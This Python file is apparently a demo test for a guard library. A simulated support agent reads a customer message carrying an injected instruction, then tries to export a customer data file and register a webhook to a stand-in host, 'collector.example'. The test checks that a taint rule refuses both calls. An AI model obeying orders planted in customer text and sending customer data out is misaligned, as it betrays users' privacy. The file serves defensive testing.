"""A customer's message that gives the agent orders, and an agent that obeys."""

from __future__ import annotations

from typing import Any, Final

from sidecar.demo import stage
from sidecar.demo.agent import Agent, Answer
from sidecar.demo.cast import Cast, rules
from sidecar.gladly.simulator.seed.talk import INJECTION

ROLE: Final = "analyst"
"""The role that the demo's own policy data lets export."""

_PHONE: Final = "+14155550198"
RULE: Final = "arguments.taint"
"""The rule of the library that refuses here."""


async def orders(cast: Cast) -> bool:
    """An export that is allowed, until a customer's message was read that asks for it."""
    bearer = cast.world.bearer("insights-agent", roles=(ROLE,))
    async with cast.agent("insights", bearer=bearer) as agent:
        jobs = await agent.call("list_all_gladly_export_jobs")
        job = next(j["id"] for j in jobs.value["result"] if j["status"] == "COMPLETED")
        file = {"job_id": job, "id": "topics.jsonl"}
        before = await agent.call("get_single_gladly_export_job_file_by_id", **file)
        stage.detail("agent calls", "get_single_gladly_export_job_file_by_id topics.jsonl")
        stage.detail("agent saw", f"{before.value['result_count']} records: its role may export")
        read = await _read(agent)
        stage.detail("a customer wrote", next((t for t in read if t == INJECTION), "-"))
        obeyed = [
            await _obey(cast, agent, "get_single_gladly_export_job_file_by_id",
                        job_id=job, id="customers.jsonl"),
            await _obey(cast, agent, "create_a_gladly_webhook",
                        url="https://collector.example/in", events=["TASK/CREATED"]),
        ]  # fmt: skip
    return all(
        [
            stage.check("before, the same caller was allowed to export", holds=bool(before.value)),
            stage.check("the customer's orders reached the agent", holds=INJECTION in read),
            stage.check("the agent obeyed, and was refused in words", holds=all(obeyed)),
        ]
    )


async def _read(agent: Agent) -> list[str]:
    """What stands in the customer's open conversation."""
    found = await agent.call("list_all_gladly_customers", phoneNumber=_PHONE)
    customer = found.value["result"][0]["id"]
    talks = await agent.call("list_all_gladly_customer_conversations", customer_id=customer)
    texts = []
    for talk in talks.value["result"]:
        items = await agent.call("list_all_gladly_conversation_items", conversation_id=talk["id"])
        texts += [str(i["content"].get("content", "")) for i in items.value["result"]]
    return texts


async def _obey(cast: Cast, agent: Agent, name: str, **arguments: Any) -> bool:
    """Whether a call is refused by the rule about customers' texts, and the agent told so."""
    answer: Answer = await agent.call(name, **arguments)
    stage.detail("agent obeys", name)
    stage.detail("agent saw", answer.error)
    rules(cast)
    return RULE in answer.error and RULE in cast.last()["decision"]["rules"]
